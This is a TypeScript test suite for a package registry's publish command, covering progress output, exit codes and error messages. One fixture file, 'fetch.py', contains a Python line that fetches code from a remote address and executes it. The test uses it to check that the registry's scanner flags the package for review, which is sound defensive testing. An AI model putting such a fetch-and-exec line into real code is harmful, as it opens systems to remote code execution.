import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { symlink } from 'node:fs/promises'
import { join } from 'node:path'
import { before, describe, it } from 'node:test'
import { testEnvironment } from '../../../scripts/set-up.mjs'
import { findFreePort } from '../../../server/test/postgres.ts'
import { type TestPublisher, testPublisher } from '../../../server/test/publishing.ts'
import { untilTrue } from '../../../server/test/until-true.ts'
import { useWorld } from '../../../server/test/world.ts'
import { folderWith, nodeOf, packOf as packFor, serverThat, Terminal } from '../run.test-support.ts'
import { progressOn } from './publish-output.ts'

const registry = useWorld()
let acme: TestPublisher
let api: string

describe('nodeyard publish', () => {
  before(prepare)

  it('follows a version until it is live, one line for each step', async () => {
    const run = publishPack(await folderWith(packOf('calm')), '--token', acme.token)
    await run.untilSaid('Uploaded')
    await registry.world.runJobs()
    const { code, stdout, stderr } = await run.ended
    assert.deepEqual([code, stderr], [0, ''])
    const { siteUrl } = registry.world.deps.config
    assert.deepEqual(
      stdout
        .split('\n')
        .filter((line) => /^(Packed|Announced|Uploaded|Received|Checked|Read|Scanned|Listed)/.test(line))
        .map((line) => line.split(' ')[0]),
      ['Packed', 'Announced', 'Uploaded', 'Received', 'Checked', 'Read', 'Scanned', 'Listed.'],
    )
    assert.ok(stdout.includes(`Progress: ${siteUrl}/nodes/calm/manage/versions/1.0.0\n`))
    assert.ok(stdout.includes('\ncalm 1.0.0 is live.\n'))
  })

  it('says that mails wait until the publisher verifies the address', async () => {
    const { world } = registry
    const owner = await world.given.user({ email_verified: false })
    const { id, token } = await testPublisher(world, { owner })
    const run = publishPack(await folderWith(packFor('unheard', id)), '--token', token)
    await run.untilSaid('Uploaded')
    await world.runJobs()
    const { code, stdout } = await run.ended
    assert.equal(code, 0)
    const { siteUrl } = world.deps.config
    assert.match(stdout, /Your email address is not verified: emails about this version wait until it is\./)
    assert.ok(stdout.includes(` Verify it: ${siteUrl}/account\n`))
  })

  it('exits with 2 when a moderator must decide, and names file, line, severity and remedy', async () => {
    const files = {
      ...packOf('wild'),
      'fetch.py': 'import requests\nexec(requests.get("http://203.0.113.9").text)\n',
    }
    const run = publishPack(await folderWith(files), '--token', acme.token, '--json')
    await run.untilSaid('Uploaded')
    await registry.world.runJobs()
    const { code, stdout, stderr } = await run.ended
    assert.equal(code, 2)
    assert.match(
      stderr,
      /^critical \(blocks\) fetch\.py:2 \S+\n {2}.+\n {2}How the value gets here\n {4}Source: fetch\.py:2 data from the network .+\n {4}Destination: fetch\.py:2 code that runs \(exec\)\n {2}Fix: .+$/m,
    )
    assert.match(
      stderr,
      /^wild 1\.0\.0 is not public yet: a moderator has to review .*\nHeld: runs code from the network$/m,
    )
    const { verdict, findings, page } = JSON.parse(stdout)
    assert.deepEqual([verdict, findings[0].file, findings[0].line], ['waiting', 'fetch.py', 2])
    assert.ok(page.endsWith('/nodes/wild/manage/versions/1.0.0'))
  })

  it('exits with 1 when the archive is refused', async () => {
    const files = { ...packOf('refused'), 'a.txt': 'one', 'A.txt': 'two' }
    const { code, stderr } = await publishPack(await folderWith(files), '--token', acme.token).ended
    assert.equal(code, 1)
    assert.match(stderr, /^The registry would not accept the archive: .*a\.txt.* It was not sent\.\n$/i)
  })

  it('can be stopped while it watches, and explains that the registry continues', async () => {
    const run = publishPack(await folderWith(packOf('left')), '--token', acme.token)
    await run.untilSaid('Progress: ')
    run.child.kill('SIGINT')
    const { code, stderr } = await run.ended
    assert.equal(code, 130)
    assert.match(stderr, /^Stopped watching\. The registry keeps checking the version: http\S+\n$/)
    await registry.world.runJobs()
  })

  it('can be stopped before anything is published', async () => {
    const asked = Promise.withResolvers<void>()
    const address = await serverThat(() => asked.resolve())
    const run = publishPack(await folderWith(packOf('early')), '--token', 'nyp_x', '--registry', address)
    await asked.promise
    run.child.kill('SIGINT')
    const { code, stderr } = await run.ended
    assert.deepEqual(
      [code, stderr],
      [130, 'Stopped before publishing; run the same command to start again.\n'],
    )
  })
})

describe('nodeyard publish with an unpublishable input', () => {
  before(prepare)

  const cases: { name: string; args: () => Promise<string[]>; said: RegExp }[] = [
    {
      name: 'a folder that does not exist',
      args: async () => ['/nowhere'],
      said: /\/nowhere: file or folder not found/,
    },
    {
      name: 'a file in place of a folder',
      args: async () => [join(await folderWith(packOf('a')), 'pyproject.toml')],
      said: /pyproject\.toml is not a folder\./,
    },
    {
      name: 'an empty folder',
      args: async () => [await folderWith({})],
      said: /pyproject\.toml does not exist/,
    },
    {
      name: 'an empty folder, with every option',
      args: async () => [await folderWith({}), '--id', 'a', '--publisher', 'acme', '--set-version', '1.0.0'],
      said: /does not contain files to publish/,
    },
    {
      name: 'TOML with a mistake',
      args: async () => [await folderWith({ 'pyproject.toml': '[project]\nname = "a\n' })],
      said: /pyproject\.toml:2: column \d+: .+/,
    },
    {
      name: 'a version that is a number',
      args: async () => [await folderWith({ 'pyproject.toml': '[project]\nname = "a"\nversion = 1.0\n' })],
      said: /pyproject\.toml:3: `version` is a number, not a text\. Put it in quotes/,
    },
    {
      name: 'a project file without a publisher',
      args: async () => [
        await folderWith({ 'pyproject.toml': '[project]\nname = "a"\nversion = "1.0.0"\n' }),
      ],
      said: /pyproject\.toml: PublisherId in \[tool\.comfy\] is missing/,
    },
    {
      name: 'a version that differs from the project file',
      args: async () => [await folderWith(packOf('two')), '--set-version', '2.0.0'],
      said: /says version = "1\.0\.0", but --set-version says 2\.0\.0\..+It was not sent\./,
    },
    {
      name: 'an id that differs from the project file',
      args: async () => [await folderWith(packOf('two')), '--id', 'three'],
      said: /says name = "two", but --id says three\./,
    },
    {
      name: 'a link that leads in a circle',
      args: async () => {
        const folder = await folderWith(packOf('loop'))
        await symlink('loop', join(folder, 'loop'))
        return [folder]
      },
      said: /loop: a circular link/,
    },
    {
      name: 'a folder in place of the project file',
      args: async () => [await folderWith({ 'pyproject.toml/a': '' })],
      said: /pyproject\.toml: a folder where a file is required/,
    },
    {
      name: 'an empty token',
      args: async () => [await folderWith(packOf('a')), '--token', ' '],
      said: /The token is empty/,
    },
    {
      name: 'a token that is unknown',
      args: async () => [
        await folderWith(packOf('a')),
        '--token',
        'nyp_00000000-0000-4000-8000-000000000000',
      ],
      said: /refused the new version \(401\): Invalid personal access token/,
    },
    {
      name: 'an address that is none',
      args: async () => [await folderWith(packOf('a')), '--registry', 'registry'],
      said: /is not the URL of a registry/,
    },
    {
      name: 'an address where nothing runs',
      args: async () => [
        await folderWith(packOf('a')),
        '--registry',
        `http://127.0.0.1:${await findFreePort()}`,
      ],
      said: /refuses connections/,
    },
    {
      name: 'an address of something else',
      args: async () => [
        await folderWith(packOf('a')),
        '--registry',
        await serverThat((_, response) => response.end('<p>Hi')),
      ],
      said: /responded with status 200, which a registry does not send here/,
    },
    {
      name: 'an option that does not exist',
      args: async () => [await folderWith(packOf('a')), '--verison', '1'],
      said: /Unknown option --verison\.\nDid you mean --version\?/,
    },
  ]
  for (const { name, args, said } of cases) {
    it(`explains ${name} in one or two lines`, async () => {
      const given = await args()
      const usual = given.includes('--token') ? [] : ['--token', acme.token]
      const { code, stderr } = await publishHere(...given, ...usual)
      assert.equal(code, 1)
      assert.match(stderr, said)
      assertShort(stderr)
    })
  }

  it('explains the token of another publisher', async () => {
    const other = await testPublisher(registry.world)
    const { code, stderr } = await publishHere(await folderWith(packOf('mine')), '--token', other.token)
    assert.equal(code, 1)
    assert.match(stderr, /\(403\): .+\nCheck --publisher/)
  })

  it('explains a number that is taken, with the next steps', async () => {
    await acme.publish({ id: 'taken' })
    const { code, stderr } = await publishHere(
      await folderWith({ ...packOf('taken'), '__init__.py': nodeOf('Taken') }),
      ...['--token', acme.token],
    )
    assert.equal(code, 1)
    assert.match(stderr, /already exists[\s\S]*Increase the version in pyproject\.toml/)
  })

  it('explains a connection that breaks during the upload', async () => {
    const address: string = await serverThat((request, response) => {
      if (request.method === 'PUT') request.socket.destroy()
      else {
        const announced = { signedUrl: `${address}/put`, node_version: { id: 'f0', version: '1.0.0' } }
        response.writeHead(201).end(JSON.stringify(announced))
      }
    })
    const { code, stderr } = await publishHere(
      await folderWith(packOf('broken')),
      ...['--token', 'nyp_x', '--registry', address],
    )
    assert.equal(code, 1)
    assert.match(
      stderr,
      /^The connection to http\S+ was lost\. .+\nThe archive did not arrive, so the version was not published\.\n$/,
    )
  })
})

describe('the progress on a terminal', () => {
  it('replaces running steps in place and keeps finished ones', () => {
    const shown: string[] = []
    const progress = progressOn({ isTTY: true, columns: 40, write: (text) => shown.push(text) })
    progress.begin('Packing')
    progress.begin('Uploading')
    progress.end('Uploaded.')
    assert.equal(shown.join(''), 'Packing …\r\x1b[KUploading …\r\x1b[KUploaded.\n')
  })
})

async function prepare(): Promise<void> {
  acme ??= await testPublisher(registry.world)
  api = await registry.world.listen()
}

/** Asserts an error of a few lines without a stack trace. */
function assertShort(stderr: string): void {
  assert.doesNotMatch(stderr, /^\s+at /m)
  assert.ok(stderr.trim().split('\n').length <= 3, stderr)
}

const packOf = (id: string) => packFor(id, acme.id)

/** Runs the program in this process. */
function publishHere(...args: string[]) {
  const atRegistry = args.includes('--registry') ? [] : ['--registry', api]
  return new Terminal().run('publish', ...args, ...atRegistry)
}

/** Runs the program in a process of its own, which can be stopped. */
function publishPack(...args: string[]) {
  const atRegistry = args.includes('--registry') ? [] : ['--registry', api]
  const program = join(import.meta.dirname, '../nodeyard.ts')
  const child = spawn(process.execPath, [program, 'publish', ...args, ...atRegistry], {
    stdio: ['ignore', 'pipe', 'pipe'],
    env: { ...testEnvironment(), LANG: 'C', NODEYARD_KEYCHAIN: 'off' },
  })
  const said = { stdout: '', stderr: '' }
  for (const name of ['stdout', 'stderr'] as const) {
    child[name].setEncoding('utf8').on('data', (text: string) => {
      said[name] += text
    })
  }
  const ended = once(child, 'close').then(([code]) => ({ code, ...said }))
  return {
    child,
    ended,
    untilSaid: (text: string) => untilTrue(() => (said.stdout + said.stderr).includes(text)),
  }
}
